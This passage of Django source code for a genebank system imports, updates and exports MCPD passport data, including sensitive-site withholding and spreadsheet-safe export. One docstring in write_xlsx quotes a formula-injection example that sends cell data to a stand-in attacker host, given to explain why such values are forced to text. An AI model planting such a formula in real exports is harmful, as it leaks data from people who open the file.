                    for accession_id, event_id in event_ids
                    for code in event_codes[accession_id]
                ],
            )
            _m2m_history(
                CollectingEvent._meta.get_field("collecting_institutes"),
                [event_id for _accession_id, event_id in event_ids],
            )

    def _save(self, instance) -> None:
        mark_change(instance, self.user, self.reason)
        instance.save()

    def _delete(self, instance) -> None:
        mark_change(instance, self.user, self.reason)
        instance.delete()

    def update(self, pk: int, values: tuple, given: tuple) -> None:
        """Apply the given fields to an existing accession, one audited save per record."""
        accession = Accession.objects.get(pk=pk)
        stored = dict(
            zip(
                FIELDS,
                next(iter_mcpd_rows(Accession.objects.filter(pk=pk), derived=False)),
                strict=True,
            )
        )
        merged = [values[INDEX[name]] if name in given else stored[name] for name in FIELDS]
        v = tuple(merged)
        for name, value in self.accession_fields(v).items():
            if name != "sequence" or accession.sequence is None:
                setattr(accession, name, value)
        self._save(accession)
        if v[_ACCENAME] != stored["ACCENAME"]:
            for old in accession.accession_names.all():
                self._delete(old)
            for row in _name_rows(pk, v):
                name = AccessionName(**dict(zip(NAME_COLUMNS, row, strict=True)))
                self._save(name)
        if v[_OTHERNUMB] != stored["OTHERNUMB"]:
            for old_number in accession.other_numbers.all():
                self._delete(old_number)
            for row in _identifier_rows(pk, v):
                identifier = AccessionIdentifier(**dict(zip(IDENTIFIER_COLUMNS, row, strict=True)))
                self._save(identifier)
        if v[_BREDCODE] != stored["BREDCODE"]:
            accession.breeding_institutes.set([])
            for code in filter(None, v[_BREDCODE].split(";")):
                accession.breeding_institutes.add(self.institutes[code])
        event_values = self.event_fields(v)
        event = CollectingEvent.objects.filter(accession_id=pk).first()
        if event_values is None and event is not None:
            # Kept, with its MCPD fields emptied, when it holds what MCPD does not carry.
            if event.habitat or event.mission_id or event.collectors.exists():
                for name, value in EMPTY_EVENT.items():
                    setattr(event, name, value)
                self._save(event)
                event.collecting_institutes.set([])
            else:
                self._delete(event)
        elif event_values is not None:
            event = event or CollectingEvent(accession_id=pk)
            for name, value in event_values.items():
                setattr(event, name, value)
            self._save(event)
            if v[_COLLCODE] != stored["COLLCODE"]:
                event.collecting_institutes.set([])
                for code in filter(None, v[_COLLCODE].split(";")):
                    event.collecting_institutes.add(self.institutes[code])
        acquisition_values = self.acquisition_fields(v)
        acquisition = Acquisition.objects.filter(accession_id=pk).first()
        if acquisition_values is None and acquisition is not None:
            if any(
                getattr(acquisition, name)
                for name in (
                    "agreement_reference",
                    "import_permit",
                    "phytosanitary_certificate",
                    "quarantine_notes",
                    "donor_person_id",
                )
            ):
                acquisition.donor_institute_id = None
                acquisition.donor_name = acquisition.donor_number = ""
                self._save(acquisition)
            else:
                self._delete(acquisition)
        elif acquisition_values is not None:
            acquisition = acquisition or Acquisition(accession_id=pk)
            for name, value in acquisition_values.items():
                setattr(acquisition, name, value)
            self._save(acquisition)


# --- export ------------------------------------------------------------------------------------

_ROW_FIELDS = [
    "pk",
    "institute__code",
    "number",
    "puid",
    "taxon__genus",
    "taxon__species",
    "taxon__species_author",
    "taxon__subtaxa",
    "taxon__subtaxa_author",
    "crop_name",
    "acquisition_date",
    "origin_country_id",
    "sample_status",
    "ancestry",
    "breeder_name",
    "mls_status",
    "storage_codes",
    "duplicate_site_codes",
    "duplicate_site_names",
    "remarks",
    "sensitive_location",
    "collecting_event__id",
    "collecting_event__collector_number",
    "collecting_event__collecting_institute_name",
    "collecting_event__collecting_institute_address",
    "collecting_event__mission_code",
    "collecting_event__mission__code",
    "collecting_event__site",
    "collecting_event__latitude",
    "collecting_event__longitude",
    "collecting_event__latitude_dms",
    "collecting_event__longitude_dms",
    "collecting_event__coordinate_uncertainty",
    "collecting_event__datum",
    "collecting_event__georeference_method",
    "collecting_event__elevation",
    "collecting_event__date",
    "collecting_event__source",
    "acquisition__donor_institute__code",
    "acquisition__donor_name",
    "acquisition__donor_person__name",
    "acquisition__donor_number",
]


def _text(value) -> str:
    if value is None:
        return ""
    return str(value)


def _grouped(pairs: Iterable[tuple[int, str]]) -> dict[int, str]:
    """Values per key, joined with ';' as MCPD lists them."""
    groups: dict[int, list[str]] = {}
    for key, value in pairs:
        groups.setdefault(key, []).append(value)
    return {key: ";".join(values) for key, values in groups.items()}


def iter_mcpd_rows(
    queryset,
    public_only: bool = False,
    with_pk: bool = False,
    derived: bool = True,
    parts: list[tuple[int, int | None, int | None]] | None = None,
    user=OPERATOR,
) -> Iterator:
    """MCPD rows (lists of 41 texts in the standard order) of the accessions, streamed in chunks.

    Sensitive sites are withheld as accessions.sensitive rules for this user (by default the
    operator: the command line, the importer's comparisons and the PDCI see them exactly), and
    always with public_only. A web download passes the user who asked for it.

    Rows come by institute, then in the order the accessions were registered: an import keeps
    the order of its file, so an export imported into an empty database exports the same again
    (an order by number would depend on each database's accession number pattern).

    Fields that higher apps derive (accessions.registries.mcpd_fields: STORAGE from the seed
    lots of accessions that have any) replace the stored text (derived); the importer compares a
    file with what it stored itself (derived=False), so that a second import changes nothing.

    parts, from _export_parts or _export_halves, limits the rows to (institute id, first pk,
    pk to stop before) ranges, in that order; by default every row of the queryset.

    The SQL comes from the ORM (joins, filters) but runs on a chunked cursor without the ORM's
    per-value converters, and the names, numbers and codes of each chunk come in one plain
    query each: at 200,000 accessions the converters alone would double the time.
    """
    # No query per chunk for a field that derives nothing at all (no seed lots yet).
    fields = [f for f in mcpd_fields if f.in_use()] if derived else []
    if parts is None:
        parts = _export_parts(queryset)
    for institute_id, start, stop in parts:
        # The rule depends on the institute only, and every part is one institute's.
        withhold = not shows_exact_site(user, institute_id, True, public=public_only)
        query = queryset.filter(institute_id=institute_id)
        if start is not None:
            query = query.filter(pk__gte=start)
        if stop is not None:
            query = query.filter(pk__lt=stop)
        sql, params = query.order_by("pk").values_list(*_ROW_FIELDS).query.sql_with_params()
        cursor = connection.chunked_cursor()
        try:
            cursor.execute(sql, params)
            while chunk := cursor.fetchmany(BATCH):
                yield from _mcpd_chunk(chunk, withhold, with_pk, fields)
        finally:
            cursor.close()


def _export_parts(queryset) -> list[tuple[int, int | None, int | None]]:
    """Every row of the queryset, one part per institute in code order.

    One query per institute, each in primary-key order: the index on the institute gives the
    rows in order, where one query ordered by code would sort them all first.
    """
    try:
        institutes = sorted(
            queryset.order_by().values_list("institute__code", "institute_id").distinct()
        )
    except EmptyResultSet:  # e.g. .none(): no SQL to run
        return []
    return [(institute_id, None, None) for _code, institute_id in institutes]


def _export_halves(queryset) -> tuple[list, list, int]:
    """The parts of the queryset split in two halves of (nearly) the same number of rows."""
    parts = _export_parts(queryset)
    counts = dict(queryset.order_by().values_list("institute_id").annotate(rows=Count("pk")))
    total = sum(counts.values())
    half, seen = total // 2, 0
    for index, (institute_id, _start, _stop) in enumerate(parts):
        rows = counts[institute_id]
        if seen + rows > half:
            offset = half - seen
            if offset == 0:
                return parts[:index], parts[index:], total
            split = (
                queryset.filter(institute_id=institute_id)
                .order_by("pk")
                .values_list("pk", flat=True)[offset]
            )
            return (
                [*parts[:index], (institute_id, None, split)],
                [(institute_id, split, None), *parts[index + 1 :]],
                total,
            )
        seen += rows
    return parts, [], total


def _side_query(sql: str, ids: list[int]) -> list[tuple]:
    if not ids:
        return []
    with connection.cursor() as cursor:
        cursor.execute(sql.format(marks=", ".join(["%s"] * len(ids))), ids)
        return cursor.fetchall()


def _coordinate_text(value) -> str:
    if value is None:
        return ""
    if isinstance(value, (float, int)):
        # SQLite hands back the stored number as a float. The column keeps six places, and a
        # float holds a number of nine significant digits exactly enough for "%.6f" to give
        # those places back: the same text as the Decimal, without making one.
        text = f"{value:.6f}".rstrip("0").rstrip(".")
        return "0" if text in ("-0", "") else text
    return canonical_decimal(value)


SIX_PLACES = Decimal("0.000001")


def _mcpd_chunk(chunk: list[tuple], withhold: bool, with_pk: bool, fields: list) -> Iterator:
    """The rows of one chunk; withhold: replace the sites of sensitive accessions; fields: the
    derived MCPD fields that replace stored text where they derive some."""
    quote = connection.ops.quote_name
    ids = [row[0] for row in chunk]
    event_ids = [row[21] for row in chunk if row[21] is not None]
    names = _grouped(
        _side_query(
            f"SELECT accession_id, name FROM {quote(AccessionName._meta.db_table)} "
            "WHERE accession_id IN ({marks}) ORDER BY accession_id, position, id",
            ids,
        )
    )
    identifiers = _grouped(
        (accession_id, f"{code}:{identifier}")
        for accession_id, code, identifier in _side_query(
            "SELECT accession_id, institute_code, identifier FROM "
            f"{quote(AccessionIdentifier._meta.db_table)} "
            "WHERE accession_id IN ({marks}) ORDER BY accession_id, position, id",
            ids,
        )
    )
    institute_table = quote(Institute._meta.db_table)
    bred = _grouped(
        _side_query(
            f"SELECT t.accession_id, i.code FROM {quote(Accession.breeding_institutes.through._meta.db_table)} t "
            f"JOIN {institute_table} i ON i.id = t.institute_id "
            "WHERE t.accession_id IN ({marks}) ORDER BY t.id",
            ids,
        )
    )
    collectors = _grouped(
        _side_query(
            "SELECT t.collectingevent_id, i.code FROM "
            f"{quote(CollectingEvent.collecting_institutes.through._meta.db_table)} t "
            f"JOIN {institute_table} i ON i.id = t.institute_id "
            "WHERE t.collectingevent_id IN ({marks}) ORDER BY t.id",
            event_ids,
        )
    )
    derived = [(INDEX[f.name], f.values(ids)) for f in fields]
    no_event = ("",) * 16
    withheld = [(INDEX[name], value) for name, value in withheld_site().items()]
    for r in chunk:
        pk = r[0]
        if r[21] is None:
            event = no_event
        else:
            # Text columns of an existing event are never NULL; numbers need str().
            event = (
                r[22],  # COLLNUMB
                collectors.get(r[21], ""),  # COLLCODE
                r[23],  # COLLNAME
                r[24],  # COLLINSTADDRESS
                r[25] or _text(r[26]),  # COLLMISSID
                r[27],  # COLLSITE
                _coordinate_text(r[28]),  # DECLATITUDE
                r[30],  # LATITUDE
                _coordinate_text(r[29]),  # DECLONGITUDE
                r[31],  # LONGITUDE
                _text(r[32]),  # COORDUNCERT
                r[33],  # COORDDATUM
                r[34],  # GEOREFMETH
                _text(r[35]),  # ELEVATION
                r[36],  # COLLDATE
                _text(r[37]),  # COLLSRC
            )
        values = [
            r[3],  # PUID
            r[1],  # INSTCODE
            r[2],  # ACCENUMB
            *event[:5],  # COLLNUMB COLLCODE COLLNAME COLLINSTADDRESS COLLMISSID
            r[4],  # GENUS
            r[5],  # SPECIES
            r[6],  # SPAUTHOR
            r[7],  # SUBTAXA
            r[8],  # SUBTAUTHOR
            r[9],  # CROPNAME
            names.get(pk, ""),  # ACCENAME
            r[10],  # ACQDATE
            r[11] or "",  # ORIGCTY
            *event[5:15],  # COLLSITE ... COLLDATE
            bred.get(pk, ""),  # BREDCODE
            r[14],  # BREDNAME
            _text(r[12]),  # SAMPSTAT
            r[13],  # ANCEST
            event[15],  # COLLSRC
            r[38] or "",  # DONORCODE
            r[39] or r[40] or "",  # DONORNAME
            r[41] or "",  # DONORNUMB
            identifiers.get(pk, ""),  # OTHERNUMB
            r[17],  # DUPLSITE
            r[18],  # DUPLINSTNAME
            r[16],  # STORAGE
            _text(r[15]),  # MLSSTAT
            r[19],  # REMARKS
        ]
        for index, found in derived:
            value = found.get(pk)
            if value:
                values[index] = value
        if withhold and r[20] and r[21] is not None:
            for index, value in withheld:
                values[index] = value
        yield (pk, values) if with_pk else values


def refresh_pdci(queryset=None) -> int:
    """Store the PDCI of the accessions (all by default), computed from their MCPD rows.

    The importer calls it after writing; the exchange's receivers of accessions_changed and
    lots_changed (ExchangeConfig.ready) after every change of passport data or of seed lots made
    elsewhere; `genebank pdci` runs it for a whole database after an upgrade. One UPDATE per
    distinct score and chunk: scores repeat, so that is a few dozen statements per chunk.
    """
    if queryset is None:
        queryset = Accession.objects.all()
    count = 0
    by_score: dict[Decimal, list[int]] = {}

    def flush() -> None:
        for score, ids in by_score.items():
            Accession.objects.filter(pk__in=ids).update(pdci=score)
        by_score.clear()

    for pk, values in iter_mcpd_rows(queryset, with_pk=True):
        by_score.setdefault(score_of(pdci_points(values)), []).append(pk)
        count += 1
        if count % BATCH == 0:
            flush()
    flush()
    return count


EXPORT_FORMATS = ("csv", "tsv", "xlsx")


@dataclass
class ExportResult:
    path: Path
    format: str
    rows: int


def export_mcpd(
    path: str | Path,
    *,
    format: str | None = None,
    institute: str | None = None,
    public_only: bool = False,
    queryset=None,
    user=OPERATOR,
) -> ExportResult:
    """Write the accessions as MCPD v2.1 (41 columns, standard order, UTF-8). Reads only.

    The file is for exchange with other genebanks' software: CSV and TSV keep the values'
    bytes as stored (no spreadsheet escaping, see csv_lines); XLSX cells are all text.
    Sensitive sites as iter_mcpd_rows gives them for this user (by default the operator).
    """
    path = Path(path)
    format = (format or path.suffix.lstrip(".").lower() or "csv").lower()
    if format not in EXPORT_FORMATS:
        raise ValueError(_("Unknown export format %(format)s.") % {"format": format})
    if queryset is None:
        queryset = Accession.objects.all()
    if institute:
        queryset = queryset.filter(institute__code=institute.upper())
    if public_only:
        queryset = queryset.filter(is_public=True)
    if format == "xlsx":
        count = write_xlsx(path, iter_mcpd_rows(queryset, public_only=public_only, user=user))
    else:
        # Two processes only from a single-threaded process outside a transaction (the
        # command line), and only when there is enough to share.
        halves = (
            _export_halves(queryset) if _may_fork() and not connection.in_atomic_block else None
        )
        if halves is not None and halves[2] >= PARALLEL_EXPORT_ROWS and halves[1]:
            count = _export_in_two(path, format, queryset, public_only, user, *halves[:2])
        else:
            with open(path, "w", encoding="utf-8", newline="") as fh:
                rows = iter_mcpd_rows(queryset, public_only=public_only, user=user)
                count = _write_delimited(fh, format, rows)
    return ExportResult(path, format, count)


def write_xlsx(target, rows: Iterable[list]) -> int:
    """MCPD rows as a workbook (sheet MCPD, header first), written as they come; target: a path
    or a binary file. Returns the number of rows.

    Every value is written as text. openpyxl (3.1.5, Cell._bind_value) stores a str that starts
    with "=" as a formula and one that spells an error code ("#N/A") as an error: a name such as
    =HYPERLINK("http://evil.example/?d="&B2,"Open") would become a live formula in whoever
    opens the file. Those values go in a cell whose type is set back to text after binding.
    """
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell

    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("MCPD")
    sheet.append(FIELDS)

    def as_text(value):
        # Only the few values openpyxl might not keep as text (every error code starts with
        # "#") get a cell of their own: a cell object per value would slow a large export.
        if isinstance(value, str) and value.startswith(("=", "#")):
            cell = WriteOnlyCell(sheet, value)
            cell.data_type = "s"
            return cell
        return value

    count = 0
    for values in rows:
        sheet.append([as_text(value) for value in values])
        count += 1
    workbook.save(target)
    return count


class _Line:
    """A file that hands back what csv.writer writes to it."""

    def write(self, text: str) -> str:
        return text


def csv_lines(rows: Iterable[list], bom: bool = True) -> Iterator[str]:
    """MCPD rows as CSV text, line by line, for a download to open in a spreadsheet program.

    The byte order mark makes spreadsheet programs read the file as UTF-8; every value goes
    through spreadsheet_text so that none of them runs as a formula there. (The MCPD exchange
    file of export_mcpd keeps the values' bytes: other genebanks' software reads it.)
    """
    writer = csv.writer(_Line(), lineterminator="\n")
    yield ("\ufeff" if bom else "") + writer.writerow(FIELDS)
    for values in rows:
        yield writer.writerow([spreadsheet_text(value) for value in values])


def _write_delimited(fh, format: str, rows: Iterable[list], header: bool = True) -> int:
    writer = csv.writer(fh, delimiter="\t" if format == "tsv" else ",", lineterminator="\n")
    if header:
        writer.writerow(FIELDS)
    count = 0
    for values in rows:
        writer.writerow(values)
        count += 1
    return count


# A CSV or TSV export of at least this many accessions is written by two processes.
PARALLEL_EXPORT_ROWS = 20_000


def _export_in_two(
    path: Path, format: str, queryset, public_only: bool, user, first, second
) -> int:
    """Write the first half of the rows here while a forked process writes the second half.

    Reading and formatting the rows is Python work on one core; the second core of a small
    server halves the time. The child writes its half to a file beside the output, which is
    appended once both are done. first and second: the halves' parts (_export_halves). Each
    process needs its own database connection, so this one closes its own before forking and
    both open new ones.
    """
    handle, part_name = tempfile.mkstemp(prefix=".genebank-export-", dir=path.parent)
    os.close(handle)
    part = Path(part_name)
    connections.close_all()
    second_half = _from_child(_write_part, part, format, queryset, second, public_only, user)
    try:
        with open(path, "w", encoding="utf-8", newline="") as fh:
            count = _write_delimited(
                fh,
                format,
                iter_mcpd_rows(queryset, public_only=public_only, parts=first, user=user),
            )
        count += sum(second_half)
        with open(path, "ab") as out, open(part, "rb") as rest:
            shutil.copyfileobj(rest, out, 1 << 20)
        return count
    finally:
        second_half.close()
        part.unlink(missing_ok=True)


def _write_part(part: Path, format: str, queryset, parts, public_only: bool, user) -> Iterator[int]:
    with open(part, "w", encoding="utf-8", newline="") as fh:
        rows = iter_mcpd_rows(queryset, public_only=public_only, parts=parts, user=user)
        yield _write_delimited(fh, format, rows, header=False)


# --- import sessions (the web import flow) --------------------------------------------------------


def start_import_session(user, uploaded_file, *, sheet: str = "", institute=None):
    """Keep the upload, read its header and map every column it can to an MCPD field."""
    from genebank.exchange.mcpd import FIELD_SET
    from genebank.exchange.models import ImportSession
    from genebank.exchange.readers import normalise_header

    # No transaction: reading the file may take seconds, and the session is one INSERT at the end.
    session = ImportSession(
        user=user,
        institute=institute,
        original_name=Path(uploaded_file.name).name[:255],
        sheet=sheet,
    )
    session.file.save(session.original_name, uploaded_file, save=False)
    try:
        path = session.file.path
        if is_workbook(path) and safe_files.can_limit_memory():
            # Read in a child process: this is the server, which a parser must not bring down.
            table: safe_files.Probe | Table = safe_files.probe_workbook(path, sheet or None)
        else:
            table = read_table(path, sheet=sheet or None)
        session.columns = [c for c in table.columns]
        session.column_map = {
            column: (normalise_header(column) if normalise_header(column) in FIELD_SET else "")
            for column in session.columns
            if column
        }
        if table.sheet:
            session.sheet = table.sheet
        session.row_estimate = table.estimate
        session.save()
    except BaseException:
        session.file.delete(save=False)
        raise
    return session


def session_mapping(session) -> Mapping:
    mapped = {column: field for column, field in session.column_map.items() if field}
    return Mapping(
        columns=mapped,
        ignore=[column for column, field in session.column_map.items() if not field],
        sheet=session.sheet or None,
    )


def _run_session(
    session,
    *,
    user,
    dry_run: bool,
    skip_invalid: bool = False,
    update: bool = False,
    on_progress=None,
):
    from genebank.exchange.models import ImportProblem

    pending: list[ImportProblem] = []

    def keep(problem: Problem) -> None:
        pending.append(
            ImportProblem(
                session=session,
                row=problem.row,
                accenumb=problem.accenumb[:200],
                field=problem.field[:100],
                value=problem.value,
                severity=problem.severity,
                message=problem.message,
            )
        )
        if len(pending) >= BATCH:
            ImportProblem.objects.bulk_create(pending)
            pending.clear()

    session.problems.all().delete()
    result = import_mcpd(
        session.file.path,
        user=user,
        sheet=session.sheet or None,
        institute=session.institute.code if session.institute else None,
        dry_run=dry_run,
        skip_invalid=skip_invalid,
        update=update,
        mapping=session_mapping(session),
        on_problem=keep,
        on_progress=on_progress,
    )
    ImportProblem.objects.bulk_create(pending)
    for name in (
        "rows",
        "rejected",
        "created",
        "updated",
        "unchanged",
        "left_out",
        "errors",
        "warnings",
    ):
        setattr(session, name, getattr(result, name))
    session.written = result.written
    session.status = session.Status.IMPORTED if result.written else session.Status.VALIDATED
    session.task = ""
    session.task_error = ""
    session.save()
    return result


def set_column_map(session, column_map: dict[str, str]) -> None:
    """The user's choice of MCPD field for each column ("" leaves the column out)."""
    from genebank.exchange.mcpd import FIELD_SET

    if session.status == session.Status.IMPORTED:
        raise ValueError(_("This file has already been imported."))
    session.column_map = {
        column: (field if field in FIELD_SET else "") for column, field in column_map.items()
    }
    session.save(update_fields=["column_map", "updated_at"])


def validate_import_session(session, column_map=None, on_progress=None) -> ImportResult:
    """Check every row with the (edited) column mapping; store every problem. Writes no accession.

    Not in a transaction: checking only reads, and a transaction held through the check of a
    large file would lock every other writer out (SQLite). Its problems are stored in batches.
    """
    if session.status == session.Status.IMPORTED:
        raise ValueError(_("This file has already been imported."))
    if column_map is not None:
        set_column_map(session, column_map)
    return _run_session(session, user=session.user, dry_run=True, on_progress=on_progress)


def commit_import_session(
    session, user, *, skip_invalid: bool, update: bool = False, on_progress=None
) -> ImportResult:
    """Import the session's file: all rows, or (skip_invalid) the valid ones, in one transaction.

    The transaction is import_mcpd's own, held while rows are written and no longer.
    """
    if session.status == session.Status.IMPORTED:
        raise ValueError(_("This file has already been imported."))
    return _run_session(
        session,
        user=user,
        dry_run=False,
        skip_invalid=skip_invalid,
        update=update,
        on_progress=on_progress,
    )


# Files with more rows than this are checked and imported as a queued job (genebank.core.jobs)
# by a worker process; the page shows its progress and can be left and come back to.
BACKGROUND_ROWS = 5000


def session_progress(session) -> tuple[str, int] | None:
    """(stage, rows) of the session's job while it is queued or running, else None.

    The stage is "queued" until a worker takes the job, then the one its import reports.
    """
    job = Job.objects.filter(pk=session.job_id).first() if session.job_id else None
    if job is None or not job.active:
        return None
    if job.status == Job.Status.QUEUED:
        return ("queued", 0)
    return (job.stage or "checked", job.progress)


def mark_if_interrupted(session) -> bool:
    """Record a running session whose job ended without finishing it (its worker died too often,
    or the job is gone) as interrupted: it can then be run again or discarded. True if it was.

    Nothing of its file was written: the import's transaction died with its process.
    """
    if session.status != session.Status.RUNNING:
        return False
    job = Job.objects.filter(pk=session.job_id).first() if session.job_id else None
    if job is not None and job.active:
        return False
    message = (
        job.message
        if job is not None and job.status == Job.Status.FAILED and job.message
        else _("The server stopped while this file was being processed; nothing was imported.")
    )
    changed = (
        type(session)
        .objects.filter(pk=session.pk, status=session.Status.RUNNING)
        .update(
            status=session.Status.INTERRUPTED,
            task="",
            task_error=message,
            updated_at=timezone.now(),
        )
    )
    if changed:
        logger.warning("import session %s was interrupted (job %s)", session.pk, session.job_id)
    # Also when not changed: the task has just ended, and the record says how.
    session.refresh_from_db()
    return bool(changed)


def discard_import_session(session, user) -> None:
    """Give up a file that was not imported: its upload and its problems go, the record stays.

    Nothing of the file was written, so nothing else changes; the session keeps who uploaded
    which file when, and who discarded it.
    """
    Status = session.Status
    if session.status == Status.IMPORTED:
        raise ValueError(_("This file has been imported: it stays as the source of its records."))
    mark_if_interrupted(session)
    if session.status == Status.RUNNING:
        raise ValueError(_("This file is being processed: wait until it is done."))
    if session.status == Status.DISCARDED:
        return
    with transaction.atomic():
        session.problems.all().delete()
        name = session.file.name
        session.file = ""
        session.status = Status.DISCARDED
        session.discarded_by = user
        session.save()
        if name:
            # Once the record says so: a failure above leaves the file where it was.
            transaction.on_commit(lambda: session.file.storage.delete(name))
    logger.info("import session %s discarded by %s", session.pk, user.get_username())


def run_session_task(session, task: str, user, **options) -> bool:
    """Check ("validate") or import ("commit") the session's file; True if it was queued as a job.

    Small files are done at once. A task already running for the session is an error.
    """
    if task not in ("validate", "commit"):
        raise ValueError(task)
    if session.status == session.Status.IMPORTED:
        raise ValueError(_("This file has already been imported."))
    if session.status == session.Status.DISCARDED:
        raise ValueError(_("This file was discarded: upload it again."))
    mark_if_interrupted(session)
    if session.status == session.Status.RUNNING:
        raise ValueError(_("This file is being processed already."))
    if session.row_estimate < BACKGROUND_ROWS:
        if task == "validate":
            validate_import_session(session)
        else:
            commit_import_session(session, user, **options)
        return False
    previous = session.status if session.status != session.Status.INTERRUPTED else ""
    sessions = type(session).objects.filter(pk=session.pk)
    with transaction.atomic():
        # Marked running first, in the job's transaction: two clicks queue one job.
        if not sessions.exclude(status=session.Status.RUNNING).update(
            status=session.Status.RUNNING, task=task, task_error="", updated_at=timezone.now()
        ):
            raise ValueError(_("This file is being processed already."))
        job = enqueue_job(
            "import",
            user=user,
            total=session.row_estimate,
            message=session.original_name,
            session=session.pk,
            task=task,
            user_id=user.pk,
            previous=previous,
            options=options,
        )
        sessions.update(job=job)
    session.refresh_from_db()
    return True


def run_queued_session_task(
    job, *, session: int, task: str, user_id: int, previous: str, options: dict
) -> None:
    """The work of an import job: check or import the session's file, reporting progress.

    Run again after its worker died, it starts over: the session is still running, and nothing
    of the file was written (or all of it was, and importing it again changes nothing).
    """
    from django.contrib.auth import get_user_model

    from genebank.exchange.models import ImportSession

    record = ImportSession.objects.select_related("institute").get(pk=session)
    if record.status != ImportSession.Status.RUNNING:
        return  # discarded or finished meanwhile
    user = get_user_model().objects.get(pk=user_id)
    with job_progress(job) as report:

        def progress(stage: str, rows: int) -> None:
            text = (
                _("%(file)s: %(rows)s rows written")
                if stage == "written"
                else _("%(file)s: %(rows)s rows checked")
            )
            report(rows, stage=stage, message=text % {"file": record.original_name, "rows": rows})

        try:
            if task == "validate":
                validate_import_session(record, on_progress=progress)
            else:
                commit_import_session(record, user, on_progress=progress, **options)
        except Exception as exc:  # the user must see it on the page; the job keeps the error
            fallback = previous or (
                ImportSession.Status.VALIDATED
                if task == "commit"
                else ImportSession.Status.UPLOADED
            )
            ImportSession.objects.filter(pk=session).update(
                status=fallback, task="", task_error=str(exc)
            )
            raise


# --- imports queued from the command line -------------------------------------------------------


class ImportRejected(Exception):
    """A queued import that rejected rows: its job fails, with the summary as its message."""


def queue_file_import(path: str | Path, *, user=None, mapping_path=None, **options) -> Job:
    """Queue the import of a file as a job: a copy is kept in the uploads (readable by the genebank
    only) until the job ends, so the file may change or go meanwhile.

    options are import_mcpd's: sheet, institute, dry_run, skip_invalid, update; errors is the
    path of a problems CSV to write.
    """
    from django.core.files import File
    from django.core.files.storage import default_storage

    path = Path(path)
    month = timezone.now().strftime("%Y/%m")
    with path.open("rb") as fh:
        stored = default_storage.save(f"imports/queued/{month}/{path.name}", File(fh))
    stored_mapping = None
    if mapping_path:
        with Path(mapping_path).open("rb") as fh:
            stored_mapping = default_storage.save(
                f"imports/queued/{month}/{Path(mapping_path).name}", File(fh)
            )
    return enqueue_job(
        "import-file",
        user=user,
        message=path.name,
        path=stored,
        name=path.name,
        mapping=stored_mapping,
        user_id=user.pk if user else None,
        **options,
    )


def run_queued_file_import(
    job,
    *,
    path: str,
    name: str,
    mapping: str | None,
    user_id: int | None,
    errors: str | None = None,
    **options,
) -> None:
    """The work of a queued file import: import_mcpd of the kept copy, reporting progress."""
    from django.contrib.auth import get_user_model
    from django.core.files.storage import default_storage

    from genebank.exchange.readers import load_mapping

    user = get_user_model().objects.get(pk=user_id) if user_id else None
    errors_csv = ErrorsCsv(errors) if errors else None
    with job_progress(job) as report:

        def progress(stage: str, rows: int) -> None:
            text = (
                _("%(file)s: %(rows)s rows written")
                if stage == "written"
                else _("%(file)s: %(rows)s rows checked")
            )
            report(rows, stage=stage, message=text % {"file": name, "rows": rows})

        try:
            result = import_mcpd(
                default_storage.path(path),
                user=user,
                mapping=load_mapping(default_storage.path(mapping)) if mapping else None,
                on_problem=errors_csv,
                on_progress=progress,
                **options,
            )
        finally:
            if errors_csv is not None:
                errors_csv.close()
            # Finished (or failed for good): the copy has served. A worker that dies leaves it
            # for the job's next run.
            for stored in (path, mapping):
                if stored:
                    default_storage.delete(stored)
        summary = _(
            "%(file)s: %(rows)s rows read; %(created)s new, %(updated)s updated, %(unchanged)s "
            "unchanged, %(rejected)s rejected; %(errors)s errors, %(warnings)s warnings."
        ) % {
            "file": name,
            "rows": result.rows,
            "created": result.created,
            "updated": result.updated,
            "unchanged": result.unchanged,
            "rejected": result.rejected,
            "errors": result.errors,
            "warnings": result.warnings,
        }
        if result.exit_status:
            raise ImportRejected(summary)
        report(result.rows, message=summary)
